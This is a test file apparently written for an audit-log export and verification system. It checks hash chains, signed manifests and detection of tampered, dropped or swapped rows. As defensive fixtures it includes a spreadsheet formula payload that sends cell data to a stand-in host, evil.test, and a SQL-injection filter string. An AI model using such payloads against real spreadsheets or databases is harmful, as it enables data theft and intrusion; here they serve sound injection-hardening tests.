import { generateKeyPairSync } from 'node:crypto';
import { afterEach, describe, expect, test } from 'vitest';
import { appendAuditEvent, type AuditEventInput } from '@/lib/audit/append-audit-event';
import { GENESIS_PREV_HASH } from '@/lib/audit/canonical';
import { createAuditExportStream, getAuditExportOrThrow, startAuditExport, type AuditExportRecord } from '@/lib/audit/export-audit-events';
import type { AuditExportFormat, AuditExportManifest } from '@/lib/contract/audit';
import { buildAuditExportManifest } from '@/lib/audit/manifest';
import { getAuditSigningKey, type AuditSigningKey } from '@/lib/audit/signing-key';
import { DB_KINDS, TEST_CONTEXT, useTestDatabases } from '@/lib/testing/audit';
import { verifyAuditChain } from '@/lib/audit/verify-audit-chain';
import type { PrismaClient } from '@/lib/db/generated/client';
import { createTestDb, type TestDb } from '@/lib/testing/db';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { verifyAuditExport, type VerifyExportOptions } from '@/scripts/audit-verify';

const ACTOR = 'a0000000-0000-4000-8000-000000000001';
const AUDITOR = 'a0000000-0000-4000-8000-0000000000aa';
const TARGET = 'a0000000-0000-4000-8000-000000000002';
const REQUEST = 'b0000000-0000-4000-8000-000000000001';
const FORMATS: AuditExportFormat[] = ['csv', 'jsonl'];
const TRICKY = 'quote " comma , semicolon ; newline \n CRLF \r\n tab \t backslash \\ é 漢字 😀 \u0001 =cmd';

function denied(n: number, extra: Partial<AuditEventInput<'tap_request.denied'>> = {}): AuditEventInput<'tap_request.denied'> {
  return {
    type: 'tap_request.denied',
    actorId: ACTOR,
    targetId: TARGET,
    requestId: REQUEST,
    data: { decidedBy: ACTOR, reason: n === 3 ? TRICKY : `reason number ${n}`, policyVersion: 1 },
    context: TEST_CONTEXT,
    ...extra,
  };
}

/** A refusal whose target is a spreadsheet formula (what raw input once put there); the CSV must defuse it. */
const FORMULA_TARGET = '=HYPERLINK("https://evil.test/?"&A1,"open")@x';
function refusedForFormula(): AuditEventInput<'tap_request.refused'> {
  return { type: 'tap_request.refused', actorId: ACTOR, targetId: FORMULA_TARGET, requestId: null, data: { stage: 'create', code: 'not-in-reporting-chain', policyVersion: 1 }, context: TEST_CONTEXT };
}

async function appendEvents(prisma: PrismaClient, count: number): Promise<void> {
  for (let n = 1; n <= count; n += 1) {
    const event = n === 2 ? denied(n, { targetId: null, requestId: null }) : n === 4 ? refusedForFormula() : denied(n);
    await prisma.$transaction((tx) => appendAuditEvent(tx, event));
  }
}

async function readAll(stream: ReadableStream<Uint8Array>): Promise<Buffer> {
  const parts: Buffer[] = [];
  const reader = stream.getReader();
  for (;;) {
    const { done, value } = await reader.read();
    if (done) return Buffer.concat(parts);
    parts.push(Buffer.from(value));
  }
}

async function verifyBytes(bytes: Buffer, options: VerifyExportOptions = {}) {
  return verifyAuditExport([bytes], options);
}

let keyDir: string | undefined;
function testKey(): AuditSigningKey {
  keyDir ??= mkdtempSync(path.join(os.tmpdir(), 'audit-key-'));
  return getAuditSigningKey({ dataDir: keyDir });
}

/** Splits an export into its header (CSV) and its event rows, each with its line ending. */
function splitRows(bytes: Buffer, format: AuditExportFormat): { header: string; rows: string[] } {
  const text = bytes.toString('utf8');
  const ending = format === 'csv' ? '\r\n' : '\n';
  // Rows end with a newline outside quotes; the data column escapes its line breaks (JSON), and
  // only `reason` of event 3 carries raw ones inside JSON strings, which JSON escapes.
  const pieces = text.split(ending).slice(0, -1).map((p) => p + ending);
  return format === 'csv' ? { header: pieces[0] ?? '', rows: pieces.slice(1) } : { header: '', rows: pieces };
}

describe.each(DB_KINDS)('audit export on %s', (kind) => {
  const databases = useTestDatabases();
  let db: TestDb;
  afterEach(async () => {
    await db.close();
  });

  test('exports every event of the range, records the export first, and its signed manifest verifies offline', async () => {
    db = await databases.open(kind);
    await appendEvents(db.prisma, 5);
    const key = testKey();
    for (const format of FORMATS) {
      const before = await db.prisma.auditEvent.count();
      const record = await startAuditExport(db.prisma, { id: AUDITOR }, { format }, TEST_CONTEXT);
      // The export's own event is written before streaming, after the exported range.
      expect(await db.prisma.auditEvent.count()).toBe(before + 1);
      const event = await db.prisma.auditEvent.findUniqueOrThrow({ where: { id: record.exportId } });
      expect(event).toMatchObject({ type: 'audit.exported', actorId: AUDITOR, seq: BigInt(before + 1) });
      expect(event.data).toMatchObject({ format, from: null, to: null, count: before, firstSeq: 1, lastSeq: before });
      expect(record).toMatchObject({ count: before, firstSeq: 1n, lastSeq: BigInt(before) });

      const bytes = await readAll(createAuditExportStream(db.prisma, record, { pageSize: 2 }));
      const { rows } = splitRows(bytes, format);
      expect(rows).toHaveLength(before);
      expect(bytes.toString('utf8')).toContain(format === 'csv' ? '"reason number 1"' : '"reason":"reason number 1"');

      const manifest = await buildAuditExportManifest(db.prisma, record.exportId, key);
      expect(manifest).toMatchObject({
        exportId: record.exportId,
        format,
        count: before,
        firstSeq: 1,
        lastSeq: before,
        anchorPrevHash: GENESIS_PREV_HASH,
        generatedBy: AUDITOR,
        exportEvent: { seq: before + 1, hash: event.hash },
        file: { bytes: bytes.length },
        signature: { alg: 'Ed25519', keyId: key.keyId },
      });
      expect(manifest.policyVersions.map((v) => v.version)).toEqual([1]);
      const result = await verifyBytes(bytes, { manifest, publicKey: key.publicKey });
      expect(result).toMatchObject({ ok: true, count: before, firstSeq: 1, lastSeq: before, manifestChecked: true, keySource: 'pinned' });
    }
    // Exports never break the chain they export.
    expect(await verifyAuditChain(db.prisma)).toMatchObject({ ok: true });
  });

  test('a time range exports the events inside it, anchored to the event before; an empty range is a valid empty export', async () => {
    db = await databases.open(kind);
    await appendEvents(db.prisma, 4);
    const third = await db.prisma.auditEvent.findUniqueOrThrow({ where: { seq: 3n } });
    const second = await db.prisma.auditEvent.findUniqueOrThrow({ where: { seq: 2n } });
    const key = testKey();

    const record = await startAuditExport(db.prisma, { id: AUDITOR }, { format: 'jsonl', from: third.at }, TEST_CONTEXT);
    expect(record).toMatchObject({ firstSeq: 3n, lastSeq: 4n, count: 2, firstHash: third.hash });
    const bytes = await readAll(createAuditExportStream(db.prisma, record));
    const manifest = await buildAuditExportManifest(db.prisma, record.exportId, key);
    expect(manifest.anchorPrevHash).toBe(second.hash);
    expect(await verifyBytes(bytes, { manifest })).toMatchObject({ ok: true, count: 2, firstSeq: 3, keySource: 'manifest' });

    const empty = await startAuditExport(db.prisma, { id: AUDITOR }, { format: 'csv', to: new Date('2000-01-01T00:00:00Z') }, TEST_CONTEXT);
    expect(empty).toMatchObject({ count: 0, firstSeq: null, lastSeq: null });
    const emptyBytes = await readAll(createAuditExportStream(db.prisma, empty));
    expect(emptyBytes.toString('utf8')).toBe('seq,id,at,type,actorId,targetId,requestId,actorDisplayName,actorUserPrincipalName,targetDisplayName,targetUserPrincipalName,prevHash,hash,data\r\n');
    const emptyManifest = await buildAuditExportManifest(db.prisma, empty.exportId, key);
    expect(await verifyBytes(emptyBytes, { manifest: emptyManifest, publicKey: key.publicKey })).toMatchObject({ ok: true, count: 0 });
  });

  test('a filtered export holds exactly the matching events, records its filters, and verifies offline; a tampered or dropped row is refused', async () => {
    db = await databases.open(kind);
    await appendEvents(db.prisma, 7);
    // Denied with a target: 1, 3, 5, 6, 7 (2 has no target, 4 is a refusal) — gaps, then a run of three.
    const filters = { type: 'tap_request.denied', targetId: TARGET };
    const key = testKey();
    for (const format of FORMATS) {
      const record = await startAuditExport(db.prisma, { id: AUDITOR }, { format, ...filters }, TEST_CONTEXT);
      expect(record).toMatchObject({ count: 5, firstSeq: 1n, lastSeq: 7n, filters });
      const event = await db.prisma.auditEvent.findUniqueOrThrow({ where: { id: record.exportId } });
      expect(event.data).toMatchObject({ count: 5, firstSeq: 1, lastSeq: 7, filtered: true, filters });
      expect(await getAuditExportOrThrow(db.prisma, record.exportId)).toMatchObject({ filters, count: 5 });

      const bytes = await readAll(createAuditExportStream(db.prisma, record, { pageSize: 2 }));
      const { header, rows } = splitRows(bytes, format);
      expect(rows.map((row) => Number(/^(?:\{"seq":)?(\d+)/.exec(row)?.[1]))).toEqual([1, 3, 5, 6, 7]);
      const manifest = await buildAuditExportManifest(db.prisma, record.exportId, key);
      expect(manifest).toMatchObject({ filtered: true, filters, count: 5, firstSeq: 1, lastSeq: 7, anchorPrevHash: GENESIS_PREV_HASH });
      expect(await verifyBytes(bytes, { manifest, publicKey: key.publicKey })).toMatchObject({ ok: true, count: 5, firstSeq: 1, lastSeq: 7 });

      // Without the manifest's filtered flag the gaps are missing events.
      const { filtered: _filtered, ...unflagged } = manifest;
      expect((await verifyBytes(bytes, { manifest: unflagged, publicKey: key.publicKey })).ok).toBe(false);
      // A row changed inside the run 5..7: its own hash fails (checked without the manifest, whose file hash would catch it first).
      const tampered = Buffer.from(header + rows.map((row, i) => (i === 3 ? row.replace('reason number 6', 'reason number X') : row)).join(''), 'utf8');
      expect(await verifyBytes(tampered, { format, filtered: true })).toMatchObject({ ok: false, firstBadSeq: 6 });
      // Row 6 dropped from the run: to the links it is one more gap, but the file is short of the signed count.
      const dropped = Buffer.from(header + rows.filter((_, i) => i !== 3).join(''), 'utf8');
      const droppedResult = await verifyBytes(dropped, { manifest, publicKey: key.publicKey });
      expect(droppedResult.ok).toBe(false);
      expect(droppedResult.problem).toContain('the export holds 4 events');
    }
    // A filter value is data, never SQL: a quote in it matches nothing rather than breaking the statement.
    const none = await startAuditExport(db.prisma, { id: AUDITOR }, { format: 'jsonl', actorId: "o'brien\\' OR 1=1 --" }, TEST_CONTEXT);
    expect(none).toMatchObject({ count: 0, firstSeq: null, lastSeq: null });
    expect((await readAll(createAuditExportStream(db.prisma, none))).length).toBe(0);
    // A request id filter (a uuid column).
    const byRequest = await startAuditExport(db.prisma, { id: AUDITOR }, { format: 'csv', requestId: REQUEST.toUpperCase(), type: 'tap_request.denied' }, TEST_CONTEXT);
    expect(byRequest).toMatchObject({ count: 5, filters: { requestId: REQUEST, type: 'tap_request.denied' } });
    expect(splitRows(await readAll(createAuditExportStream(db.prisma, byRequest)), 'csv').rows).toHaveLength(5);
    expect(await verifyAuditChain(db.prisma)).toMatchObject({ ok: true });
  });

  test('a manifest exists only for audit.exported events', async () => {
    db = await databases.open(kind);
    await appendEvents(db.prisma, 1);
    const plain = await db.prisma.auditEvent.findUniqueOrThrow({ where: { seq: 1n } });
    for (const id of [plain.id, 'c0000000-0000-4000-8000-000000000000', 'not-a-uuid']) {
      await expect(getAuditExportOrThrow(db.prisma, id)).rejects.toMatchObject({ name: 'BrokerError', code: 'not-found' });
    }
  });
});

describe('audit:verify rejects every tampering', () => {
  let db: TestDb;
  const exports = new Map<AuditExportFormat, { bytes: Buffer; manifest: AuditExportManifest; record: AuditExportRecord }>();

  async function fixture(format: AuditExportFormat) {
    const hit = exports.get(format);
    if (hit) return hit;
    db ??= await createTestDb({ kind: 'pglite' });
    if ((await db.prisma.auditEvent.count()) === 0) await appendEvents(db.prisma, 5);
    const record = await startAuditExport(db.prisma, { id: AUDITOR }, { format, to: new Date(Date.now() + 60_000) }, TEST_CONTEXT);
    const bytes = await readAll(createAuditExportStream(db.prisma, record));
    const manifest = await buildAuditExportManifest(db.prisma, record.exportId, testKey());
    const value = { bytes, manifest, record };
    exports.set(format, value);
    return value;
  }

  afterEach(() => undefined);

  test.each(FORMATS)('%s: any single byte of any event changed is refused, naming that event', async (format) => {
    const { bytes, manifest } = await fixture(format);
    expect(await verifyBytes(bytes, { manifest })).toMatchObject({ ok: true });
    const { header, rows } = splitRows(bytes, format);
    let offset = Buffer.byteLength(header);
    let checked = 0;
    for (const [index, row] of rows.entries()) {
      const seq = index + 1;
      const length = Buffer.byteLength(row);
      for (let i = offset; i < offset + length; i += 1) {
        for (const flip of [0x01, 0x20]) {
          const tampered = Buffer.from(bytes);
          tampered[i] = (tampered[i] ?? 0) ^ flip;
          // The chain checks alone refuse it (no manifest, so not merely the file's SHA-256) …
          const alone = await verifyBytes(tampered, { format });
          // … and with the manifest saying where the export starts, they name the event.
          const result = await verifyBytes(tampered, { manifest });
          if (alone.ok || result.ok || result.firstBadSeq !== seq) {
            throw new Error(`byte ${i} ^ ${flip} (seq ${seq}) gave ${JSON.stringify({ alone, result })}`);
          }
          checked += 1;
        }
      }
      offset += length;
    }
    expect(checked).toBe(2 * (bytes.length - Buffer.byteLength(header)));
    // With the manifest, the file's SHA-256 refuses even what a chain alone could not see.
    const oneByte = Buffer.from(bytes);
    oneByte[bytes.length - 3] = (oneByte[bytes.length - 3] ?? 0) ^ 0x01;
    expect(await verifyBytes(oneByte, { manifest })).toMatchObject({ ok: false });
  });

  test.each(FORMATS)('%s: a removed row is refused, naming the missing seq', async (format) => {
    const { bytes, manifest } = await fixture(format);
    const { header, rows } = splitRows(bytes, format);
    for (let removed = 0; removed < rows.length; removed += 1) {
      const tampered = Buffer.from(header + rows.filter((_, i) => i !== removed).join(''));
      const withManifest = await verifyBytes(tampered, { manifest });
      expect(withManifest, `row ${removed + 1}`).toMatchObject({ ok: false, firstBadSeq: removed + 1 });
      // Without a manifest only the cut-off first or last row goes unseen: that is what the manifest is for.
      const alone = await verifyBytes(tampered, { format });
      if (removed !== 0 && removed !== rows.length - 1) expect(alone).toMatchObject({ ok: false, firstBadSeq: removed + 1 });
      if (removed === 0) expect(alone).toMatchObject({ ok: true, firstSeq: 2 });
    }
  });

  test.each(FORMATS)('%s: two swapped rows are refused, naming the first swapped seq', async (format) => {
    const { bytes, manifest } = await fixture(format);
    const { header, rows } = splitRows(bytes, format);
    for (let a = 0; a < rows.length; a += 1) {
      for (let b = a + 1; b < rows.length; b += 1) {
        const swapped = [...rows];
        [swapped[a], swapped[b]] = [rows[b] ?? '', rows[a] ?? ''];
        const tampered = Buffer.from(header + swapped.join(''));
        expect(await verifyBytes(tampered, { format }), `${a + 1}<->${b + 1} alone`).toMatchObject({ ok: false });
        expect(await verifyBytes(tampered, { manifest }), `${a + 1}<->${b + 1}`).toMatchObject({ ok: false, firstBadSeq: a + 1 });
      }
    }
  });

  test.each(FORMATS)('%s: an altered manifest or a different signing key is refused', async (format) => {
    const { bytes, manifest } = await fixture(format);
    const forged = { ...manifest, count: manifest.count - 1, lastSeq: (manifest.lastSeq ?? 0) - 1 };
    expect(await verifyBytes(bytes, { manifest: forged })).toMatchObject({ ok: false, problem: expect.stringContaining('signature') });
    const other = generateKeyPairSync('ed25519').publicKey;
    expect(await verifyBytes(bytes, { manifest, publicKey: other })).toMatchObject({ ok: false, problem: expect.stringContaining('signature') });
    const wrongFormat = FORMATS.find((f) => f !== format) ?? format;
    expect(await verifyBytes(bytes, { manifest: { ...manifest, format: wrongFormat } })).toMatchObject({ ok: false });
  });

  test('npm run audit:verify: exit 0 on the export, 1 naming the first bad seq, 2 on misuse', async () => {
    const { bytes, manifest } = await fixture('csv');
    const dir = mkdtempSync(path.join(os.tmpdir(), 'audit-verify-cli-'));
    const file = path.join(dir, 'export.csv');
    const manifestFile = path.join(dir, 'manifest.json');
    const keyFile = path.join(dir, 'key.pem');
    writeFileSync(file, bytes);
    writeFileSync(manifestFile, JSON.stringify(manifest));
    writeFileSync(keyFile, testKey().publicKeyPem);
    const cli = (...args: string[]) =>
      spawnSync(process.execPath, ['--import', 'tsx', 'scripts/audit-verify.ts', ...args], { cwd: process.cwd(), encoding: 'utf8' });

    const ok = cli(file, manifestFile, '--key', keyFile);
    expect(ok.status, ok.stderr).toBe(0);
    expect(ok.stdout).toContain(`OK export.csv: ${manifest.count} events`);
    expect(ok.stdout).toContain('valid with the pinned key');

    const { header, rows } = splitRows(bytes, 'csv');
    writeFileSync(file, header + rows.map((row, i) => (i === 2 ? row.replace('reason', 'Reason') : row)).join(''));
    const bad = cli(file, manifestFile, '--key', keyFile);
    expect(bad.status).toBe(1);
    expect(bad.stderr).toContain('first bad seq 3');

    expect(cli().status).toBe(2);
  });

  test('a formula in a refused request’s target is inert in the CSV, and npm run audit:verify still verifies the file and its manifest', async () => {
    const { bytes, manifest } = await fixture('csv');
    const { rows } = splitRows(bytes, 'csv');
    // The cell begins with the defusing quote (then the formula, its `"` doubled by RFC 4180) …
    const cell = `"'${FORMULA_TARGET.replaceAll('"', '""')}"`;
    expect(rows[3]).toMatch(/^4,/);
    expect(rows[3]).toContain(`,"tap_request.refused","${ACTOR}",${cell},,`);
    // … and no cell of the file begins with a formula character.
    expect(bytes.toString('utf8')).not.toMatch(/(?:^|,)"?[=+\-@\t\r]/m);
    // JSON Lines carries the value as it is.
    const jsonl = await fixture('jsonl');
    expect(splitRows(jsonl.bytes, 'jsonl').rows[3]).toContain(`"targetId":${JSON.stringify(FORMULA_TARGET)}`);

    const dir = mkdtempSync(path.join(os.tmpdir(), 'audit-verify-formula-'));
    const [file, manifestFile, keyFile] = ['export.csv', 'manifest.json', 'key.pem'].map((name) => path.join(dir, name)) as [string, string, string];
    writeFileSync(file, bytes);
    writeFileSync(manifestFile, JSON.stringify(manifest));
    writeFileSync(keyFile, testKey().publicKeyPem);
    const cli = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/audit-verify.ts', file, manifestFile, '--key', keyFile, '--json'], { cwd: process.cwd(), encoding: 'utf8' });
    expect(cli.status, cli.stderr).toBe(0);
    expect(JSON.parse(cli.stdout)).toMatchObject({ ok: true, format: 'csv', count: manifest.count, manifestChecked: true, keySource: 'pinned', sha256: manifest.file.sha256 });
    // The event's hash is over the value, not the defused text: the stored chain holds the formula.
    const stored = await db.prisma.auditEvent.findUniqueOrThrow({ where: { seq: 4n } });
    expect(stored.targetId).toBe(FORMULA_TARGET);
  });

  test('cleans up', async () => {
    await db?.close();
  });
});
